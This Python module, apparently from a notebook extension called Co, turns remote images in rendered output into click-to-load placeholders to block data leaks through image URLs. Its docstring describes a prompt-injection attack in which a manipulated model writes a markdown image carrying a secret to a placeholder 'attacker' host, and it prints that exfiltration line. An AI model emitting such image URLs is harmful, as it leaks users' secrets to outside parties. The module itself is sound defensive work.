"""Remote images in what Co shows load only when the person clicks.

An image loads the moment its page renders it, so a URL with data in it is a way out: an
injected model reads a secret (a file's saved output, a memory) and writes
``![status](https://attacker/c?d=<secret>)``; the browser sends the secret without anyone
clicking (EchoLeak, CVE-2025-32711; CamoLeak). Sanitising HTML does not stop it, since an
image is allowed markup. So every ``<img>`` whose address leaves the page (``http(s):``,
protocol-relative ``//host``, a root path ``/x`` of the server) becomes a placeholder: a
plain link to the URL that shows the host and the whole URL, decoded, nothing cut. Without
Co's extension (nbconvert's HTML, another viewer, an untrusted notebook) nothing loads on
open; with it, a real click on the placeholder loads the image (``outputs/images.ts``). Paths
relative to the notebook (``plot.png``) stay images: they are the folder's files.

Images from the hosts the person lists in ``image_hosts`` stay real images, marked with
``IMAGE_CLASS`` (which outside text cannot set: the sanitiser allows no class on ``img``).

The HTML given here is the sanitiser's output (html5ever's serialisation): it is parsed,
not searched, and each URL is classified in the form a browser reads it (tabs and newlines
dropped, backslashes as slashes) and written back in that same form, so what was judged
is what loads.
"""

from __future__ import annotations

import html
import re
import unicodedata
from collections.abc import Iterable
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Literal
from urllib.parse import unquote, urlsplit

__all__ = [
    "IMAGE_CLASS",
    "PLACEHOLDER_CLASS",
    "URL_ATTRIBUTE",
    "ImageTarget",
    "host_allowed",
    "image_target",
    "placeholder_html",
    "rewrite_images",
]

PLACEHOLDER_CLASS = "co-remote-image"
"""Class of a remote image's placeholder (``labextension/src/outputs/images.ts`` loads it
on a click)."""
IMAGE_CLASS = "co-image"
"""Class of an image Co lets load at once (an ``image_hosts`` host); the extension keeps it."""
URL_ATTRIBUTE = "data-co-image"
"""The placeholder's attribute that carries the image's URL (its ``href`` too, where a link)."""

_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]*:")
# What a browser's URL parser drops before reading a URL: C0 controls and space at either
# end, ASCII tab and newline anywhere (WHATWG URL, "basic URL parser").
_EDGES = "".join(chr(c) for c in range(0x21))
_INSIDE = re.compile(r"[\t\n\r]")


@dataclass(frozen=True)
class ImageTarget:
    """Where an image's ``src`` leads, as a browser reads it."""

    kind: Literal["local", "remote", "blocked"]
    """local: a path beside the notebook or inline data; remote: leaves the page; blocked:
    not an image URL."""
    url: str
    """The URL as the browser reads it (what Co writes back)."""
    host: str = ""
    """For remote: ``host`` or ``host:port`` as written, lower-cased; "" when it has none."""


def image_target(src: str) -> ImageTarget:
    """Classify an image URL; anything unclear counts as remote (a click decides)."""
    url = _INSIDE.sub("", src.strip(_EDGES))
    # For http(s) pages a backslash is a slash: "/\host" is "//host", "http://a\@b" is host a.
    url = url.replace("\\", "/")
    scheme = _SCHEME.match(url)
    if scheme:
        name = scheme.group(0).lower()
        if name in ("data:", "blob:"):  # inline data (a figure Co drew) sends nothing
            return ImageTarget("local", url)
        if name not in ("http:", "https:"):
            return ImageTarget("blocked", url)
    elif not url.startswith("/"):
        # A relative path has no ":" in its first segment (as ``_safe_html._link_ok``).
        head = re.split(r"[/?#]", url, maxsplit=1)[0]
        return ImageTarget("blocked" if ":" in head else "local", url)
    return ImageTarget("remote", url, _host(url))


def _host(url: str) -> str:
    try:
        parts = urlsplit(url)
        host = parts.hostname or ""
        port = parts.port
    except ValueError:
        return ""
    # Only the plain form "scheme://host" or "//host" names a host a person can check: the
    # browser reads "http:host" or "http:///host" differently from urlsplit.
    if not re.match(r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?//[^/]", url):
        return ""
    if ":" in host:
        host = f"[{host}]"
    return f"{host}:{port}" if port is not None else host


def _name_and_port(host: str) -> tuple[str, str]:
    if host.startswith("["):  # an IPv6 address keeps its brackets
        end = host.find("]") + 1
        return host[:end], host[end + 1 :]
    name, _, port = host.partition(":")
    return name, port


def host_allowed(host: str, allowed: Iterable[str]) -> bool:
    """Whether ``host`` (``name`` or ``name:port``) is one of ``allowed``.

    An entry is a host name (any port), ``name:port`` (that port only), or ``*.domain``
    (its subdomains, not the domain itself); IPv6 addresses in brackets; case is ignored.
    An empty host never matches.
    """
    if not host:
        return False
    name, port = _name_and_port(host.lower())
    for entry in allowed:
        want, want_port = _name_and_port(entry.strip().lower())
        if not want or (want_port and want_port != port):
            continue
        if want.startswith("*.") and name.endswith(want[1:]) and len(name) > len(want) - 1:
            return True
        if want == name:
            return True
    return False


def _visible(text: str) -> str:
    """``text`` with control, invisible and direction characters shown as ``\\u....``."""
    out: list[str] = []
    for ch in text:
        category = unicodedata.category(ch)
        if category in ("Cc", "Cf", "Zl", "Zp", "Co", "Cn") or (ch.isspace() and ch != " "):
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return "".join(out)


def placeholder_html(target: ImageTarget, alt: str, *, in_link: bool = False) -> str:
    """A remote image as a placeholder: host, alt text and the whole URL, decoded.

    A link to the image (a person may open it) unless it sits inside a link already, where
    a second ``<a>`` would break the first: then a ``<span>``.
    """
    url = html.escape(target.url)
    host = html.escape(_visible(target.host or "the page's own server"))
    shown = html.escape(_visible(unquote(target.url, errors="replace")))
    label = f"Image from {host} not loaded"
    if alt.strip():
        label += f": {html.escape(_visible(alt.strip()))}"
    inner = (
        f'<span class="{PLACEHOLDER_CLASS}-label">🖼 {label}. Click to load it from</span> '
        f'<code class="{PLACEHOLDER_CLASS}-url">{shown}</code>'
    )
    title = "Nothing is loaded until you click"
    if in_link:
        return (
            f'<span class="{PLACEHOLDER_CLASS}" {URL_ATTRIBUTE}="{url}" '
            f'title="{title}">{inner}</span>'
        )
    return (
        f'<a class="{PLACEHOLDER_CLASS}" href="{url}" {URL_ATTRIBUTE}="{url}" '
        f'rel="noopener noreferrer nofollow" title="{title}">{inner}</a>'
    )


def _image_html(target: ImageTarget, attrs: dict[str, str]) -> str:
    kept = {k: v for k, v in attrs.items() if k in ("alt", "title", "width", "height")}
    extra = "".join(f' {k}="{html.escape(v)}"' for k, v in kept.items())
    return f'<img class="{IMAGE_CLASS}" src="{html.escape(target.url)}"{extra}>'


class _Images(HTMLParser):
    """Finds each ``<img>`` (its span in the text) and whether it sits inside a link."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[int, int, dict[str, str], bool]] = []
        self._lines = [0]
        self._lines += [m.end() for m in re.finditer("\n", text)]
        self._links = 0

    def _span(self) -> tuple[int, int]:
        line, column = self.getpos()
        start = self._lines[line - 1] + column
        return start, start + len(self.get_starttag_text() or "")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            self._links += 1
        elif tag == "img":
            start, end = self._span()
            values = {k: v or "" for k, v in attrs}
            self.found.append((start, end, values, self._links > 0))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "img":
            self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "a" and self._links:
            self._links -= 1


def rewrite_images(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """Sanitised HTML with each remote image a placeholder (or, from an allowed host, an
    ``IMAGE_CLASS`` image); local images stay, an image with no usable URL loses its src."""
    if "<img" not in text.lower():
        return text
    parser = _Images(text)
    parser.feed(text)
    parser.close()
    hosts = list(allowed_hosts)
    out: list[str] = []
    last = 0
    for start, end, attrs, in_link in parser.found:
        out.append(text[last:start])
        target = image_target(attrs.get("src", ""))
        alt = attrs.get("alt", "")
        if "src" not in attrs or target.kind == "blocked":
            out.append(f'<img alt="{html.escape(alt)}">' if alt else "<img>")
        elif target.kind == "local":
            out.append(text[start:end])
        elif host_allowed(target.host, hosts):
            out.append(_image_html(target, attrs))
        else:
            out.append(placeholder_html(target, alt, in_link=in_link))
        last = end
    out.append(text[last:])
    return "".join(out)
